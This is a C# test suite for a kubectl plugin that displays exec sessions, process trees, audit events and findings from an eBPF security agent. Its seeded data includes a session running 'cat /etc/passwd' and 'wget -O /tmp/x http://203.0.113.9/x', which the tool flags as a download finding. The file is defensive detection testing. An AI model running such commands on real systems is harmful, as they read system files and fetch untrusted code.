using System.Text.Json;
using Ebpf.Api.V1;
using Ebpf.Cli.Commands;

using Record = Ebpf.Api.V1.Record;

namespace Ebpf.Cli.Tests.Commands;

/// <summary>
/// `kubectl-exectrace` agent commands run in-process through the real parser against the agent's real gRPC
/// service (Kestrel, HTTP/2, SQLite store).
/// </summary>
public sealed class TraceCommandsTests(AgentFixture agent) : IClassFixture<AgentFixture>
{
    private async Task<(int Exit, string Out, string Err)> RunAsync(params string[] args)
    {
        var output = new StringWriter();
        var error = new StringWriter();
        int exit = await CliRoot.RunAsync([.. args, "--agent", agent.Address], output, error, AgentFixture.Environment());
        return (exit, output.ToString(), error.ToString());
    }

    private static string[] Lines(string text) => text.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries);

    [Fact]
    public async Task Sessions_NoFilter_TableListsBothSessionsNewestFirst()
    {
        var (exit, output, error) = await RunAsync("sessions");

        Assert.Equal(0, exit);
        Assert.Equal("", error);
        var lines = Lines(output);
        Assert.Contains(lines, l => l.StartsWith("SESSION", StringComparison.Ordinal) && l.Contains("USER", StringComparison.Ordinal));
        int alice = Array.FindIndex(lines, l => l.Contains("7f3a9c02-bbb", StringComparison.Ordinal));
        int bob = Array.FindIndex(lines, l => l.Contains("7f3a9c01-aaa", StringComparison.Ordinal));
        Assert.True(alice >= 0 && bob >= 0, output);
        Assert.True(alice < bob, "newest first:\n" + output);
        Assert.Contains("alice@example.com", lines[alice]);
        Assert.Contains("shop/web-0", lines[alice]);
        Assert.Contains("certain", lines[alice]);
        Assert.Contains("probable", lines[bob]);
        Assert.DoesNotContain("SOURCE IP", output);
    }

    [Fact]
    public async Task Sessions_Filters_NarrowTheRows()
    {
        var byUser = await RunAsync("sessions", "--user", "bob@example.com");
        Assert.Contains("7f3a9c01-aaa", byUser.Out);
        Assert.DoesNotContain("7f3a9c02-bbb", byUser.Out);

        var byPod = await RunAsync("sessions", "-n", "shop", "--pod", "web-0");
        Assert.Contains("7f3a9c02-bbb", byPod.Out);
        Assert.DoesNotContain("7f3a9c01-aaa", byPod.Out);

        // Now is T0+1h: alice started at T0+50m, bob at T0+100s.
        var since = await RunAsync("sessions", "--since", "30m");
        Assert.Contains("7f3a9c02-bbb", since.Out);
        Assert.DoesNotContain("7f3a9c01-aaa", since.Out);

        var until = await RunAsync("sessions", "--until", "2026-11-20T09:10:00Z");
        Assert.Contains("7f3a9c01-aaa", until.Out);
        Assert.DoesNotContain("7f3a9c02-bbb", until.Out);

        var limit = await RunAsync("sessions", "--limit", "1", "-o", "json");
        Assert.Equal(Seed.AliceSession, Assert.Single(JsonDocument.Parse(limit.Out).RootElement.EnumerateArray()).GetProperty("id").GetString());

        var none = await RunAsync("sessions", "--user", "mallory");
        Assert.Equal(0, none.Exit);
        Assert.Contains("No sessions found.", none.Out);
    }

    [Fact]
    public async Task Sessions_Wide_AddsSourceAndCounts()
    {
        var (exit, output, _) = await RunAsync("sessions", "-o", "wide", "--user", "alice@example.com");

        Assert.Equal(0, exit);
        Assert.Contains("SOURCE IP", output);
        Assert.Contains("NODE", output);
        var row = Assert.Single(Lines(output), l => l.Contains("7f3a9c02-bbb", StringComparison.Ordinal));
        Assert.Contains("10.0.0.7", row);
        Assert.Contains("node-a", row);
    }

    [Fact]
    public async Task Sessions_Json_ParsesWithProtoFieldNames()
    {
        var (exit, output, _) = await RunAsync("sessions", "-o", "json");

        Assert.Equal(0, exit);
        var sessions = JsonDocument.Parse(output).RootElement.EnumerateArray().ToList();
        Assert.Equal(2, sessions.Count);
        var alice = sessions.Single(s => s.GetProperty("id").GetString() == Seed.AliceSession);
        Assert.Equal("alice@example.com", alice.GetProperty("user").GetString());
        Assert.Equal("shop", alice.GetProperty("namespace").GetString());
        Assert.Equal("web-0", alice.GetProperty("pod").GetString());
        Assert.Equal("CONFIDENCE_CERTAIN", alice.GetProperty("confidence").GetString());
        Assert.Equal("sh", alice.GetProperty("command")[0].GetString());
    }

    [Fact]
    public async Task Show_FullId_PrintsWhoAndProcessTreeWithConnectAndFiles()
    {
        var (exit, output, error) = await RunAsync("show", Seed.AliceSession);

        Assert.Equal(0, exit);
        Assert.Equal("", error);
        Assert.Contains(Seed.AliceSession, output);
        Assert.Contains("who:     alice@example.com (groups: system:authenticated, dev)", output);
        Assert.Contains("kubectl/v1.31.0", output);
        Assert.Contains("processes", output);
        var lines = Lines(output);
        int sh = Array.FindIndex(lines, l => l.Contains("/bin/sh", StringComparison.Ordinal) || l.Contains(" sh", StringComparison.Ordinal) && l.Contains("4100", StringComparison.Ordinal));
        int cat = Array.FindIndex(lines, l => l.Contains("cat /etc/passwd", StringComparison.Ordinal));
        int wget = Array.FindIndex(lines, l => l.Contains("wget -O /tmp/x http://203.0.113.9/x", StringComparison.Ordinal));
        Assert.True(sh >= 0 && cat > sh && wget > cat, output);
        Assert.Contains(lines, l => l.Contains("203.0.113.9", StringComparison.Ordinal) && l.Contains("80", StringComparison.Ordinal) && !l.Contains("wget", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.Contains("/etc/passwd", StringComparison.Ordinal) && !l.Contains("cat", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.Contains("/tmp/x", StringComparison.Ordinal) && !l.Contains("wget", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Show_UniquePrefix_FindsTheSession()
    {
        var (exit, output, _) = await RunAsync("show", "7f3a9c01");

        Assert.Equal(0, exit);
        Assert.Contains(Seed.BobSession, output);
        Assert.Contains("bob@example.com", output);
    }

    [Fact]
    public async Task Show_AmbiguousPrefix_PrintsAgentMessageExit1()
    {
        var (exit, output, error) = await RunAsync("show", "7f3a9c0");

        Assert.Equal(AgentExit.NotFound, exit);
        Assert.Equal("", output);
        Assert.Contains("'7f3a9c0' matches 2 sessions", error);
        Assert.Contains(Seed.AliceSession, error);
    }

    [Fact]
    public async Task Show_UnknownId_NotFoundExit1()
    {
        var (exit, _, error) = await RunAsync("show", "deadbeef");

        Assert.Equal(AgentExit.NotFound, exit);
        Assert.Equal("error: session 'deadbeef' not found", error.Trim());
    }

    [Fact]
    public async Task Show_Yaml_HasSessionAndProcesses()
    {
        var (exit, output, _) = await RunAsync("show", Seed.AliceSession, "-o", "yaml");

        Assert.Equal(0, exit);
        var yaml = new YamlDotNet.Serialization.DeserializerBuilder().Build().Deserialize<Dictionary<string, object>>(output);
        var session = (Dictionary<object, object>)yaml["session"];
        Assert.Equal("alice@example.com", session["user"]);
        var processes = (List<object>)yaml["processes"];
        Assert.Equal(3, processes.Count);
        Assert.Equal("/usr/bin/wget", ((Dictionary<object, object>)processes[2])["filename"]);
    }

    [Fact]
    public async Task Pod_WithNamespace_ListsApiRequestsAndSessions()
    {
        var (exit, output, error) = await RunAsync("pod", "web-0", "-n", "shop");

        Assert.Equal(0, exit);
        Assert.Equal("", error);
        Assert.Contains("Pod shop/web-0", output);
        Assert.Contains("API requests", output);
        var lines = Lines(output);
        Assert.Contains(lines, l => l.Contains("alice@example.com", StringComparison.Ordinal) && l.Contains("pods/exec", StringComparison.Ordinal) && l.Contains("audit-alice", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.Contains("carol@example.com", StringComparison.Ordinal) && l.Contains("pods/log", StringComparison.Ordinal));
        Assert.Contains("Sessions:", output);
        Assert.Contains("7f3a9c02-bbb", output);
        Assert.DoesNotContain("bob@example.com", output);
    }

    [Fact]
    public async Task Pod_NoNamespaceNoKubeconfig_UsesDefaultNamespace()
    {
        var (exit, output, _) = await RunAsync("pod", "web-0");

        Assert.Equal(0, exit);
        Assert.Contains("Pod default/web-0", output);
        Assert.Contains("Nobody touched this pod", output);
    }

    [Fact]
    public async Task Pod_Json_HasAuditEventsAndSessions()
    {
        var (exit, output, _) = await RunAsync("pod", "web-0", "-n", "shop", "-o", "json");

        Assert.Equal(0, exit);
        var root = JsonDocument.Parse(output).RootElement;
        var auditIds = root.GetProperty("auditEvents").EnumerateArray().Select(a => a.GetProperty("auditId").GetString()).ToList();
        Assert.Contains("audit-alice", auditIds);
        Assert.Contains("audit-carol-logs", auditIds);
        Assert.DoesNotContain("audit-bob", auditIds);
        Assert.Equal(Seed.AliceSession, Assert.Single(root.GetProperty("sessions").EnumerateArray()).GetProperty("id").GetString());
    }

    [Fact]
    public async Task Findings_List_ShowsTheDownloadFinding()
    {
        var (exit, output, _) = await RunAsync("findings");
        Assert.Equal(0, exit);
        var row = Assert.Single(Lines(output), l => l.Contains("exec-download", StringComparison.Ordinal));
        Assert.Contains("shop/web-0", row);
        Assert.Contains("alice@example.com", row);

        var json = await RunAsync("findings", "--kind", "exec-download", "-o", "json");
        var finding = Assert.Single(JsonDocument.Parse(json.Out).RootElement.EnumerateArray());
        Assert.Equal("f-1", finding.GetProperty("id").GetString());
        Assert.Equal(Seed.AliceSession, finding.GetProperty("sessionId").GetString());

        var otherKind = await RunAsync("findings", "--kind", "secret-read", "-o", "json");
        Assert.Empty(JsonDocument.Parse(otherKind.Out).RootElement.EnumerateArray());

        var otherPod = await RunAsync("findings", "-n", "shop", "--pod", "web-1");
        Assert.Contains("No findings.", otherPod.Out);
    }

    [Fact]
    public async Task Status_Table_ShowsNodeProbesCountersAndSequence()
    {
        var (exit, output, _) = await RunAsync("status");

        Assert.Equal(0, exit);
        Assert.Contains("on node node-a", output);
        Assert.Contains("pod watch:        synced", output);
        Assert.Contains("tp/sched/sched_process_exec", output);
        Assert.Contains($"last sequence:    {agent.Store.LastSequence}", output);
        Assert.Contains(Lines(output), l => l.StartsWith("events_exec", StringComparison.Ordinal) && l.EndsWith("12", StringComparison.Ordinal));

        var json = JsonDocument.Parse((await RunAsync("status", "-o", "json")).Out).RootElement;
        Assert.Equal("node-a", json.GetProperty("node").GetString());
        Assert.Equal("3", json.GetProperty("counters").GetProperty("audit_received").GetString());
    }

    [Fact]
    public async Task Watch_RecordsPublishedAfterSubscribe_OneLineEachUntilCancelled()
    {
        var output = new StringWriter();
        var error = new StringWriter();
        using var cancel = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        var run = CliRoot.RunAsync(["watch", "--kind", "session,finding", "-n", "shop", "--agent", agent.Address], output, error, AgentFixture.Environment(), cancel.Token);

        int before = agent.Hub.Subscribers;
        while (agent.Hub.Subscribers == before && !run.IsCompleted) await Task.Delay(10);
        Assert.False(run.IsCompleted, error.ToString());
        var records = Seed.Records();
        var session = records.First(r => r.BodyCase == Record.BodyOneofCase.Session).Clone();
        session.Sequence = 9001;
        var nodeEvent = records.First(r => r.BodyCase == Record.BodyOneofCase.NodeEvent).Clone();
        nodeEvent.Sequence = 9002; // not a requested kind: filtered out by the agent
        var finding = records.First(r => r.BodyCase == Record.BodyOneofCase.Finding).Clone();
        finding.Sequence = 9003;
        agent.Hub.Publish(session);
        agent.Hub.Publish(nodeEvent);
        agent.Hub.Publish(finding);

        while (!output.ToString().Contains("#9003", StringComparison.Ordinal) && !run.IsCompleted) await Task.Delay(10);
        Assert.False(run.IsCompleted, error.ToString());
        await cancel.CancelAsync();
        int exit = await run;

        Assert.Equal(0, exit);
        var lines = Lines(output.ToString());
        Assert.Equal(2, lines.Length);
        Assert.StartsWith("#9001 session 7f3a9c01-aaa", lines[0]);
        Assert.StartsWith("#9003 FINDING", lines[1]);
        Assert.Contains("exec-download", lines[1]);
    }

    [Fact]
    public async Task Watch_JsonWithMaxRecords_OneJsonObjectPerLine()
    {
        var output = new StringWriter();
        var error = new StringWriter();
        var run = CliRoot.RunAsync(["watch", "-o", "json", "--max-records", "2", "--agent", agent.Address], output, error, AgentFixture.Environment());

        int before = agent.Hub.Subscribers;
        while (agent.Hub.Subscribers == before && !run.IsCompleted) await Task.Delay(10);
        var records = Seed.Records();
        for (int i = 0; i < 2; i++)
        {
            var r = records[i].Clone();
            r.Sequence = 9100 + (ulong)i;
            agent.Hub.Publish(r);
        }
        int exit = await run.WaitAsync(TimeSpan.FromSeconds(30));

        Assert.Equal(0, exit);
        var lines = Lines(output.ToString());
        Assert.Equal(2, lines.Length);
        Assert.Equal("audit-bob", JsonDocument.Parse(lines[0]).RootElement.GetProperty("auditEvent").GetProperty("auditId").GetString());
        Assert.Equal("9101", JsonDocument.Parse(lines[1]).RootElement.GetProperty("sequence").GetString());
    }

    [Fact]
    public async Task AnyCommand_AgentUnreachable_Exit3WithHint()
    {
        var output = new StringWriter();
        var error = new StringWriter();
        int exit = await CliRoot.RunAsync(["status", "--agent", "127.0.0.1:1"], output, error, AgentFixture.Environment());

        Assert.Equal(AgentExit.Unreachable, exit);
        Assert.StartsWith("error: cannot reach the agent at 127.0.0.1:1: ", error.ToString());
        Assert.Contains("Is ebpf-agent running? (--agent, $EBPF_AGENT)", error.ToString());
    }

    [Fact]
    public async Task AgentFromEnvironment_UsedWhenNoAgentFlag()
    {
        var output = new StringWriter();
        var env = new CliEnvironment { Variable = n => n == "EBPF_AGENT" ? "http://" + agent.Address : null, HomeDirectory = "/nonexistent-home" };
        int exit = await CliRoot.RunAsync(["status"], output, new StringWriter(), env);

        Assert.Equal(0, exit);
        Assert.Contains("on node node-a", output.ToString());
    }

    [Theory]
    [InlineData("sessions", "--bogus")]
    [InlineData("sessions", "-o", "xml")]
    [InlineData("sessions", "--limit", "many")]
    [InlineData("show")]
    [InlineData("sessions", "--since", "yesterday")]
    [InlineData("status", "--timeout", "soon")]
    [InlineData("watch", "--kind", "syscall")]
    [InlineData("status", "--agent", "ftp://x:1")]
    public async Task BadFlags_Exit2WithMessage(params string[] args)
    {
        var output = new StringWriter();
        var error = new StringWriter();
        int exit = await CliRoot.RunAsync(args.Contains("--agent") ? args : [.. args, "--agent", agent.Address], output, error, AgentFixture.Environment());

        Assert.Equal(CliRoot.UsageError, exit);
        Assert.StartsWith("error: ", error.ToString());
    }

    [Fact]
    public async Task Help_EveryCommandAndOptionHasADescription()
    {
        var root = CliRoot.Create(AgentFixture.Environment());
        foreach (var command in root.Subcommands.Where(c => c.Name != "policy"))
        {
            Assert.False(string.IsNullOrWhiteSpace(command.Description), command.Name);
            foreach (var option in command.Options.Where(o => !o.Hidden))
                Assert.False(string.IsNullOrWhiteSpace(option.Description), $"{command.Name} {option.Name}");
            foreach (var argument in command.Arguments)
                Assert.False(string.IsNullOrWhiteSpace(argument.Description), $"{command.Name} <{argument.Name}>");
        }
        var output = new StringWriter();
        Assert.Equal(0, await CliRoot.RunAsync(["--help"], output, new StringWriter(), AgentFixture.Environment()));
        Assert.Contains("kubectl exectrace show 7f3a9c02", output.ToString());
        Assert.Contains("3 agent unreachable", output.ToString());
    }
}
